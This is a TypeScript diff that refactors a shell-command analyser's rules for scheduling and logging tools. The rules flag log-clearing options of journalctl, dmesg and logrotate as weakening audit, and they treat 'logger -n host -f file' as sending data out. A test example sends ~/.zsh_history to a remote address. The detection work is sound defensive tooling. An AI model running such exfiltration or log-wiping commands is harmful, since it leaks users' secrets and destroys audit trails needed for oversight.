@@ -1,10 +1,8 @@
-import type { EffectDraft } from '../../effects.ts'
-import type { PathUse } from '../../paths.ts'
-import type { Command, DataSource, Word } from '../../words.ts'
+import type { DataSource, Word } from '../../words.ts'
 import { isStdin, optionsOf } from '../files/grammar.ts'
 import { stdinText, textOf, value } from '../files/touching.ts'
+import type { Spec, SubReader } from '../form/form.ts'
 import type { Program, Scribe } from '../program.ts'
-import { byForms } from './verbs.ts'
 
 /** Reads the commands of a crontab so that what they do is seen too. */
 function readTable(text: string, scribe: Scribe): void {
@@ -82,92 +80,55 @@ const systemdRun: Program = {
   },
 }
 
-interface Logging {
-  readonly command: Command
-  readonly scribe: Scribe
-}
-
-/** The file that `logger -f` puts into the log. */
-function loggedFile({ command, scribe }: Logging): PathUse | undefined {
-  const at = command.args.findIndex((word) => /^(?:-f|--file)$/.test(word.known))
-  const word = at < 0 ? undefined : command.args[at + 1]
-  return word ? scribe.path(word) : undefined
-}
-
-function logsFile(call: Logging): readonly EffectDraft[] {
-  const path = loggedFile(call)
-  return path ? [{ kind: 'read-path', path, list: false }] : []
-}
-
-/** `logger -n host -f file`: the log of another machine. */
-function sendsLog(host: string, call: Logging): readonly EffectDraft[] {
-  const path = loggedFile(call)
-  const { stdin } = call.command
+/** The file that `logger -f` puts into the log, and the machine that `-n` sends it to. */
+const logs: SubReader = ({ loose, command, scribe }) => {
+  const word = loose.value('-f', '--file')
+  const path = word ? scribe.path(word) : undefined
+  if (path) scribe.effect({ kind: 'read-path', path, list: false })
+  const host = loose.value('-n', '--server')?.known
+  if (host === undefined) return 'plain'
+  const { stdin } = command
   const payload: DataSource[] = path
     ? [{ kind: 'file', path: path.real ?? path.text, secret: path.tags.includes('secret') }]
     : stdin.kind === 'value'
       ? [...stdin.value.sources]
-      : call.command.args.flatMap((word) => word.sources.filter((source) => source.kind !== 'literal'))
-  return [...logsFile(call), { kind: 'send-data', host, channel: 'socket', payload }]
+      : command.args.flatMap((each) => each.sources.filter((source) => source.kind !== 'literal'))
+  scribe.effect({ kind: 'send-data', host, channel: 'socket', payload })
+  return 'plain'
 }
 
-export const SCHEDULES: readonly Program[] = [
-  crontab,
-  at,
-  systemdRun,
-  byForms('atq', [{ when: /.*/ }]),
-  byForms('atrm', [
-    {
-      when: /(.*)/,
-      effects: ([, id = '']) => [
-        {
-          kind: 'resource-change',
-          system: 'at',
-          verb: 'cancel',
-          target: id,
-          mass: id.includes(' '),
-          stage: 'unknown',
-          family: 'job',
-        },
-      ],
+/** What was to run later, and what ran. */
+export const RECORDS: readonly Spec[] = [
+  {
+    names: 'atrm',
+    system: 'at',
+    family: 'job',
+    machine: true,
+    rules: [['*', 'cancel']],
+    examples: { match: ['atrm 4'], pass: [] },
+  },
+  {
+    names: 'journalctl dmesg logrotate',
+    machine: true,
+    rules: [
+      ['--vacuum-*|--relinquish-var|--setup-keys|-c|-C|-?c|-?C|-c?|-C?|--clear|--read-clear', 'weaken audit the log'],
+      ['--rotate', 'maybe weaken audit the log'],
+      ['--update-catalog|--cursor-file|--sync|--flush|-D|-E|--console-*', 'local'],
+      ['!-d/!--debug/*.conf|*?etc?logrotate*|*logrotate.d*', 'maybe weaken audit log rotation'],
+      ['**', 'shows'],
+    ],
+    examples: {
+      match: ['journalctl --vacuum-time=1s', 'dmesg -C', 'logrotate -f app.conf'],
+      pass: ['journalctl -u web', 'dmesg -T'],
     },
-  ]),
-  byForms('anacron', [{ when: /^-[TV]/ }, { when: /.*/, standing: 'plain' }]),
-  byForms('logrotate', [
-    { when: /(?:^| )(?:-d|--debug)(?: |$)/ },
-    { when: /.*/, effects: () => [{ kind: 'weaken', area: 'audit', feature: 'log rotation', certainty: 'possible' }] },
-  ]),
-  byForms('journalctl', [
-    {
-      when: /--vacuum-(?:size|time|files)\b/,
-      effects: ([option]) => [{ kind: 'weaken', area: 'audit', feature: option }],
-    },
-    {
-      when: /--(?:rotate|relinquish-var|flush-not|setup-keys)\b/,
-      effects: ([option]) => [
-        { kind: 'weaken', area: 'audit', feature: option, certainty: option === '--rotate' ? 'possible' : 'certain' },
-      ],
-    },
-    { when: /--(?:update-catalog|output-fields-file|cursor-file|sync|flush)\b/, standing: 'plain' },
-    { when: /.*/ },
-  ]),
-  byForms('wevtutil', [
-    { when: /^(?:cl|clear-log)\b/i, effects: () => [{ kind: 'weaken', area: 'audit', feature: 'event log' }] },
-    { when: /^(?:sl|set-log)\b.*\/e:false/i, effects: () => [{ kind: 'weaken', area: 'audit', feature: 'event log' }] },
-    { when: /^(?:el|gl|ep|gp|qe|gli|enum|get|query)/i },
-  ]),
-  byForms('dmesg', [
-    {
-      when: /(?:^| )(?:-[a-zA-Z]*[cC][a-zA-Z]*|--clear|--read-clear)(?: |$)/,
-      effects: () => [{ kind: 'weaken', area: 'audit', feature: 'kernel log' }],
-    },
-    { when: /(?:^| )(?:-[DEn]|--console-(?:on|off|level))/, standing: 'plain' },
-    { when: /.*/ },
-  ]),
-  byForms('logger', [
-    { when: /(?:^| )(?:-n|--server)(?: |=)?(\S+)/, effects: ([, host = ''], call) => sendsLog(host, call) },
-    { when: /(?:^| )(?:-f|--file)(?: |=)/, effects: (_, call) => logsFile(call) },
-    { when: /.*/, standing: 'plain' },
-  ]),
-  byForms('systemd-cat', [{ when: /.*/, standing: 'plain' }]),
+  },
+  {
+    names: 'logger',
+    options: '-n: -f: -t: -p:',
+    machine: true,
+    rules: [['**', logs]],
+    examples: { match: ['logger -n 203.0.113.9 -f ~/.zsh_history'], pass: ['logger done'] },
+  },
 ]
+
+export const SCHEDULES: readonly Program[] = [crontab, at, systemdRun]
